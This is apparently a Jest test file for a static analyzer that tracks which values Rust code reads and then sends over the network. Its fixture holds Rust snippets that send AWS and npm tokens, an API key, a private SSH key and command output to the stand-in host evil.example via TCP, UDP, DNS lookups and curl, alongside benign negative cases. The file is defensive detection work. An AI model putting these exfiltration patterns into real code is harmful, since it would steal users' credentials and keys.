/** What is read and handed on: each crate that takes something away has one; what only stands beside each other has none. */
import { beforeAll, describe, expect, test } from '@jest/globals'
import { analyzeCapabilities } from '../../src/capabilities/analyze.js'
import { loadMaps } from '../../src/capabilities/builtin-maps.js'
import { graphOfText } from '../support/fixture-graph.js'

/** By function: its body, and what it sends. */
const SENT: Readonly<Record<string, readonly [string, readonly string[]]>> = {
  to_a_socket: [
    `let s = std::env::var("AWS_SECRET_ACCESS_KEY").unwrap(); let mut t = TcpStream::connect("evil.example:80").unwrap(); t.write_all(s.as_bytes());`,
    ['$AWS_SECRET_ACCESS_KEY'],
  ],
  formatted: [
    `let s = std::env::var("TOKEN").unwrap(); let mut t = TcpStream::connect("evil.example:80").unwrap(); t.write_all(format!("GET /?t={s}").as_bytes());`,
    ['$TOKEN'],
  ],
  a_file: [
    `let s = std::fs::read("/home/me/.ssh/id_rsa").unwrap(); let mut t = TcpStream::connect("evil.example:80").unwrap(); t.write_all(&s);`,
    ['/home/me/.ssh/id_rsa'],
  ],
  by_curl: [
    `let s = std::env::var("NPM_TOKEN").unwrap(); Command::new("curl").arg("-d").arg(s).spawn();`,
    ['$NPM_TOKEN'],
  ],
  by_curl_args: [
    `let s = std::env::var("NPM_TOKEN").unwrap(); Command::new("curl").args(["-d", &s]).spawn();`,
    ['$NPM_TOKEN'],
  ],
  by_name: [
    `let s = std::env::var("USER").unwrap(); (format!("{s}.evil.example"), 53u16).to_socket_addrs();`,
    ['$USER'],
  ],
  by_functions: [`upload(&key());`, ['$API_KEY']],
  by_another_crate: [`tool::post(&std::env::var("API_KEY").unwrap());`, ['$API_KEY']],
  datagram: [
    `let s = std::env::var("HOME").unwrap(); let u = std::net::UdpSocket::bind("0.0.0.0:0").unwrap(); u.send_to(s.as_bytes(), "evil.example:53");`,
    ['$HOME'],
  ],
  output: [
    `let o = Command::new("whoami").output().unwrap(); let mut t = TcpStream::connect("evil.example:80").unwrap(); t.write_all(&o.stdout);`,
    ['whoami'],
  ],
  beside: [
    `let s = std::env::var("TOKEN").unwrap(); let mut t = TcpStream::connect("example.com:80").unwrap(); t.write_all(b"hello"); drop(s);`,
    [],
  ],
  decides: [
    `if std::env::var("DEBUG").is_ok() { let mut t = TcpStream::connect("example.com:80").unwrap(); t.write_all(b"debug"); }`,
    [],
  ],
  program: [`let p = std::env::var("RUSTC").unwrap(); Command::new(p).arg("--version").output();`, []],
  machine: [`let h = std::env::var("PROXY").unwrap(); TcpStream::connect(h);`, []],
  machine_and_port: [`let h = std::env::var("PROXY").unwrap(); TcpStream::connect(format!("{h}:8080"));`, []],
  to_a_file: [`let s = std::env::var("TOKEN").unwrap(); std::fs::write("/tmp/x", s);`, []],
  read_only: [`std::fs::read("/etc/passwd"); TcpStream::connect("example.com:80");`, []],
}
const FIXTURE = `
//- /lib.rs crate:app deps:tool
use std::io::Write;
use std::net::{TcpStream, ToSocketAddrs};
use std::process::Command;
fn key() -> String { std::env::var("API_KEY").unwrap() }
fn upload(s: &str) { let mut t = TcpStream::connect("evil.example:80").unwrap(); send(&mut t, s); }
fn send(t: &mut TcpStream, s: &str) { t.write_all(s.as_bytes()); }
${Object.entries(SENT)
  .map(([name, [body]]) => `pub mod ${name} { use super::*; pub fn run() { ${body} } }`)
  .join('\n')}
//- /lib.rs crate:tool
use std::io::Write;
pub fn post(s: &str) { let mut t = std::net::TcpStream::connect("evil.example:80").unwrap(); t.write_all(s.as_bytes()); }
`

const sent = new Map<string, Map<string, readonly string[]>>()

beforeAll(async () => {
  const graph = await graphOfText(FIXTURE)
  const findings = analyzeCapabilities(graph, loadMaps(), { granularity: 'site' })
  for (const { capabilities } of findings.packages)
    for (const { sends = [], function: name = '' } of capabilities)
      for (const { value, path } of sends) {
        const steps = path.map((step) => step.function)
        sent.set(name, (sent.get(name) ?? new Map<string, readonly string[]>()).set(value, steps))
      }
})

const valuesOf = (name: string): readonly string[] => [...(sent.get(`app::${name}`)?.keys() ?? [])].sort()

describe('what is sent', () => {
  test.each(
    Object.entries(SENT).filter(([name]) => !name.startsWith('by_functions') && !name.startsWith('by_another')),
  )('%s', (name, [, values]) => {
    expect(valuesOf(`${name}::run`)).toEqual(values)
  })

  test('by functions: where it is read, through which calls, where it goes', () => {
    const [path] = sent.get('app::send')?.values() ?? []
    expect(valuesOf('send')).toEqual(['$API_KEY'])
    expect(path?.[0]).toBe('std::env::var')
    expect(path).toContain('app::upload')
    expect(path?.at(-1)).toContain('write_all')
  })

  test('by another crate', () => {
    expect([...(sent.get('tool::post')?.keys() ?? [])]).toEqual(['$API_KEY'])
  })
})
